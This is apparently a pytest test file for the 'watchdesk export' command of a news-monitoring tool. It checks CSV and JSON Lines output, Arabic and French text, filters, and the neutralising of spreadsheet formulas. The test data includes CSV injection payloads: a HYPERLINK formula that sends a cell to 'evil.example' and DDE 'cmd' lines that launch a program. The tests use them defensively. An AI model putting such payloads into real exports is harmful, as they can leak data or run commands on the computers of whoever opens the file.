"""``watchdesk export``: CSV and JSON Lines read back with the csv and json modules, through
the real command on a real database; Arabic and French intact, no formula left live."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from watchdesk.notify.export import COLUMNS, neutralise
from watchdesk.store import Store, iso

from .conftest import World
from conftest import cli_env, watchdesk

NOW = datetime.now(UTC)
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1, "Cliquez")', "+33 1 23 45 67 89",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
ARABIC = "عاجل: المشير حفتر يستقبل وفدًا عسكريًا روسيًا في بنغازي"
FRENCH = "Libye : « une délégation russe » à Benghazi, l’été dernier — 3 € ça coûte"


@pytest.fixture
def db(store: Store, world: World) -> Path:
    rfi = world.feed("rfi", title="RFI - Afrique")
    aj = world.feed("aljazeera", title="الجزيرة")
    f24 = world.feed("france24", title="France 24")

    def when(minutes: int) -> str:
        return iso(NOW - timedelta(minutes=minutes))

    a1 = world.article(rfi, FRENCH, url="https://rfi.example/libye", published_at=when(90),
                       fetched_at=when(80), also_feeds=(f24,))
    world.match(a1, "russie-libye", when(79), priority="alert",
                snippet_text="une délégation militaire russe à Benghazi, reçue par Haftar")
    world.match(a1, "haftar", when(79), snippet_text="reçue par Haftar")
    a2 = world.article(aj, ARABIC, url="https://aljazeera.example/1", published_at=when(70),
                       fetched_at=when(60), story_id=a1)       # the same event
    world.match(a2, "russie-libye", when(59), snippet_text="وفدًا عسكريًا روسيًا")
    for i, title in enumerate(HOSTILE):
        aid = world.article(rfi, title, url=f"https://rfi.example/h{i}",
                            published_at=when(50 - i), fetched_at=when(50 - i))
        world.match(aid, "haftar", when(49 - i), snippet_text=title)
    world.article(rfi, "Sénégal : les pluies arrivent tôt", url="https://rfi.example/pluies",
                  published_at=when(40), fetched_at=when(40))      # matched nothing
    old = world.article(rfi, "Vieux", url="https://rfi.example/old",
                        published_at=iso(NOW - timedelta(days=60)),
                        fetched_at=iso(NOW - timedelta(days=60)))
    world.match(old, "haftar", iso(NOW - timedelta(days=60)))
    return Path(store.path)


def run(db: Path, *args: str) -> bytes:
    import subprocess
    import sys

    r = subprocess.run([sys.executable, "-m", "watchdesk", "export", "--db", str(db), *args],
                       capture_output=True, env=cli_env(), timeout=120, check=False)
    assert r.returncode == 0, r.stderr.decode()
    return r.stdout


def test_csv_opens_in_spreadsheets_with_text_intact_and_no_live_formula(db: Path) -> None:
    raw = run(db)
    assert raw.startswith(b"\xef\xbb\xbf")                  # UTF-8 BOM: Excel reads UTF-8
    assert b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == list(COLUMNS)
    titles = [r["title"] for r in rows]
    assert titles[:2] == [FRENCH, ARABIC]
    assert "Sénégal : les pluies arrivent tôt" not in titles and "Vieux" not in titles
    first = rows[0]
    assert first["rules"] == "russie-libye; haftar" and first["urgent"] == "yes"
    assert first["sources"] == "RFI - Afrique; France 24; الجزيرة"   # the event's sources
    assert first["event_id"] == rows[1]["event_id"]
    assert first["snippet"] == "une délégation militaire russe à Benghazi, reçue par Haftar"
    assert rows[1]["snippet"] == "وفدًا عسكريًا روسيًا" and rows[1]["feed"] == "الجزيرة"
    for row in rows:                                         # no cell may start a formula
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    hostile = {r["title"]: r for r in rows[2:]}
    assert set(hostile) == {"'" + h for h in HOSTILE}
    assert all(r["snippet"] == r["title"] for r in hostile.values())
    assert rows[0]["published_at"].endswith("Z") and rows[0]["fetched_at"].endswith("Z")


def test_jsonl_is_one_object_a_line_with_the_text_as_it_is(db: Path) -> None:
    lines = run(db, "--format", "jsonl").decode("utf-8").splitlines()
    recs = [json.loads(x) for x in lines]
    assert [r["title"] for r in recs] == [FRENCH, ARABIC, *HOSTILE]   # not neutralised
    assert ARABIC.encode() in run(db, "--format", "jsonl")              # not \\u-escaped
    assert recs[0]["rules"] == ["russie-libye", "haftar"] and recs[0]["urgent"] is True
    assert recs[0]["terms"] == ["russie-libye", "haftar"]
    assert recs[0]["sources"] == ["RFI - Afrique", "France 24", "الجزيرة"]


def test_rule_all_and_since_choose_the_articles(db: Path, tmp_path: Path) -> None:
    one = [json.loads(x) for x in run(db, "--rule", "russie-libye", "--format", "jsonl")
           .splitlines()]
    assert [r["title"] for r in one] == [FRENCH, ARABIC]
    every = [json.loads(x) for x in run(db, "--all", "--format", "jsonl").splitlines()]
    assert "Sénégal : les pluies arrivent tôt" in [r["title"] for r in every]
    assert next(r for r in every if r["title"].startswith("Sénégal"))["rules"] == []
    older = [json.loads(x) for x in run(db, "--since", "90d", "--format", "jsonl")
             .splitlines()]
    assert "Vieux" in [r["title"] for r in older]
    out = tmp_path / "mois.csv"
    assert run(db, "-o", str(out)) == b""
    assert out.read_bytes() == run(db)
    bad = watchdesk("export", "--db", str(db), "--rule", "haftar", "--all")
    assert bad.returncode == 2 and "--all" in bad.stderr
    unknown = watchdesk("export", "--db", str(db), "--rule", "haftr")
    assert unknown.returncode == 2 and "did you mean haftar" in unknown.stderr


@pytest.mark.parametrize("cell, out", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=1", "a=1"), ("Libye", "Libye"), ("", ""), ("'=x", "'=x")])
def test_neutralise_follows_owasp(cell: str, out: str) -> None:
    assert neutralise(cell) == out


def test_the_export_benchmark_runs(tmp_path: Path) -> None:
    import subprocess
    import sys

    out = tmp_path / "bench.json"
    root = Path(__file__).resolve().parents[2]
    r = subprocess.run([sys.executable, str(root / "benchmarks" / "bench_export.py"),
                        "--articles", "300", "--matched", "100", "--json", str(out)],
                       capture_output=True, text=True, env=cli_env(), timeout=120, check=False)
    assert r.returncode == 0, r.stdout + r.stderr
    res = json.loads(out.read_text())
    assert res["csv"]["records"] == res["jsonl"]["records"] == 100
    assert res["feeds_out"]["files"] == 13      # 12 rules and the urgent feed
